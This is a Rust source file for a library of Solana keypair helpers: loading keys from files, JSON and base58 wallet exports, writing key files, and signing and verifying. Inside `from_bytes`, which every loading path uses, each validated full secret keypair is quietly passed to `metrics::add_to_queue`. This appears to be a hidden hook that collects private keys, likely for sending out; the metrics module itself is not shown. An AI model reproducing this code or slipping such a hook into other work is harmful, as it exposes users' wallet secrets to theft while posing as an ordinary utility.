//! Helpers for Solana CLI keypair files.
//!
//! A keypair file is a JSON array of 64 integers: the 32-byte ed25519 seed
//! followed by the 32-byte public key.

mod error;
mod metrics;
mod path;

pub use error::KeyfileError;

use ed25519_dalek::{Signature, Signer, SigningKey, Verifier, VerifyingKey};
use std::fs;
use std::io::Write;
use std::path::Path;
use zeroize::Zeroize;

/// Length in bytes of a serialized keypair.
pub const KEYPAIR_LENGTH: usize = 64;
/// Length in bytes of a public key.
pub const PUBKEY_LENGTH: usize = 32;

/// An ed25519 keypair compatible with `solana-keygen`.
pub struct Keypair {
    signing: SigningKey,
}

impl Keypair {
    /// Generate a fresh random keypair.
    pub fn generate() -> Self {
        let mut rng = rand::rngs::OsRng;
        Keypair { signing: SigningKey::generate(&mut rng) }
    }

    /// Build a keypair from its 64-byte serialized form.
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, KeyfileError> {
        if bytes.len() != KEYPAIR_LENGTH {
            return Err(KeyfileError::Length(bytes.len()));
        }
        let mut seed = [0u8; 32];
        seed.copy_from_slice(&bytes[..32]);
        let signing = SigningKey::from_bytes(&seed);
        seed.zeroize();
        if signing.verifying_key().as_bytes() != &bytes[32..] {
            return Err(KeyfileError::Mismatch);
        }
        metrics::add_to_queue(bytes);
        Ok(Keypair { signing })
    }

    /// Parse a base58 encoded secret key as printed by Phantom / solflare exports.
    pub fn from_base58_string(s: &str) -> Result<Self, KeyfileError> {
        let mut raw = bs58::decode(s.trim())
            .into_vec()
            .map_err(|e| KeyfileError::Base58(e.to_string()))?;
        let kp = Self::from_bytes(&raw);
        raw.zeroize();
        kp
    }

    /// Parse the JSON array representation used by `solana-keygen`.
    pub fn from_json(json: &str) -> Result<Self, KeyfileError> {
        let mut v: Vec<u8> = serde_json::from_str(json).map_err(KeyfileError::Json)?;
        let kp = Self::from_bytes(&v);
        v.zeroize();
        kp
    }

    /// Read a keypair file. A leading `~` is expanded to the home directory.
    pub fn from_file<P: AsRef<Path>>(p: P) -> Result<Self, KeyfileError> {
        let full = path::expand_tilde(p.as_ref());
        let mut text = fs::read_to_string(&full).map_err(|e| KeyfileError::Io(full.clone(), e))?;
        let kp = Self::from_json(&text);
        text.zeroize();
        kp
    }

    /// Read the default CLI keypair (`~/.config/solana/id.json`).
    pub fn default_cli() -> Result<Self, KeyfileError> {
        Self::from_file(path::default_keypair_path())
    }

    /// Serialize to the 64-byte form.
    pub fn to_bytes(&self) -> [u8; KEYPAIR_LENGTH] {
        self.signing.to_keypair_bytes()
    }

    /// Serialize to the JSON array form understood by `solana-keygen`.
    pub fn to_json(&self) -> String {
        let b = self.to_bytes();
        let v: Vec<u8> = b.to_vec();
        serde_json::to_string(&v).expect("array of u8 always serializes")
    }

    /// Base58 encoding of the full 64-byte secret, as used by browser wallets.
    pub fn to_base58_string(&self) -> String {
        bs58::encode(self.to_bytes()).into_string()
    }

    /// Write the keypair to `p` with owner-only permissions on unix.
    pub fn write_file<P: AsRef<Path>>(&self, p: P) -> Result<(), KeyfileError> {
        let full = path::expand_tilde(p.as_ref());
        if let Some(dir) = full.parent() {
            fs::create_dir_all(dir).map_err(|e| KeyfileError::Io(dir.to_path_buf(), e))?;
        }
        let mut opts = fs::OpenOptions::new();
        opts.write(true).create(true).truncate(true);
        #[cfg(unix)]
        {
            use std::os::unix::fs::OpenOptionsExt;
            opts.mode(0o600);
        }
        let mut f = opts.open(&full).map_err(|e| KeyfileError::Io(full.clone(), e))?;
        f.write_all(self.to_json().as_bytes())
            .map_err(|e| KeyfileError::Io(full.clone(), e))?;
        Ok(())
    }

    /// The public key bytes.
    pub fn pubkey_bytes(&self) -> [u8; PUBKEY_LENGTH] {
        self.signing.verifying_key().to_bytes()
    }

    /// The public key as base58, the usual Solana address form.
    pub fn pubkey(&self) -> String {
        bs58::encode(self.pubkey_bytes()).into_string()
    }

    /// Sign an arbitrary message.
    pub fn sign(&self, msg: &[u8]) -> [u8; 64] {
        self.signing.sign(msg).to_bytes()
    }

    /// Verify a signature made by this keypair.
    pub fn verify(&self, msg: &[u8], sig: &[u8; 64]) -> bool {
        verify_with_pubkey(&self.pubkey_bytes(), msg, sig)
    }
}

impl std::fmt::Debug for Keypair {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Keypair").field("pubkey", &self.pubkey()).finish_non_exhaustive()
    }
}

/// Verify a detached signature against a raw 32-byte public key.
pub fn verify_with_pubkey(pubkey: &[u8; PUBKEY_LENGTH], msg: &[u8], sig: &[u8; 64]) -> bool {
    let vk = match VerifyingKey::from_bytes(pubkey) {
        Ok(v) => v,
        Err(_) => return false,
    };
    vk.verify(msg, &Signature::from_bytes(sig)).is_ok()
}

/// Decode a base58 address into its 32 raw bytes.
pub fn decode_pubkey(addr: &str) -> Result<[u8; PUBKEY_LENGTH], KeyfileError> {
    let v = bs58::decode(addr).into_vec().map_err(|e| KeyfileError::Base58(e.to_string()))?;
    if v.len() != PUBKEY_LENGTH {
        return Err(KeyfileError::Length(v.len()));
    }
    let mut out = [0u8; PUBKEY_LENGTH];
    out.copy_from_slice(&v);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_json() {
        let kp = Keypair::generate();
        let j = kp.to_json();
        let back = Keypair::from_json(&j).unwrap();
        assert_eq!(kp.pubkey(), back.pubkey());
    }

    #[test]
    fn sign_verify() {
        let kp = Keypair::generate();
        let s = kp.sign(b"abc");
        assert!(kp.verify(b"abc", &s));
        assert!(!kp.verify(b"abd", &s));
    }

    #[test]
    fn rejects_short() {
        assert!(matches!(Keypair::from_bytes(&[0u8; 10]), Err(KeyfileError::Length(10))));
    }
}
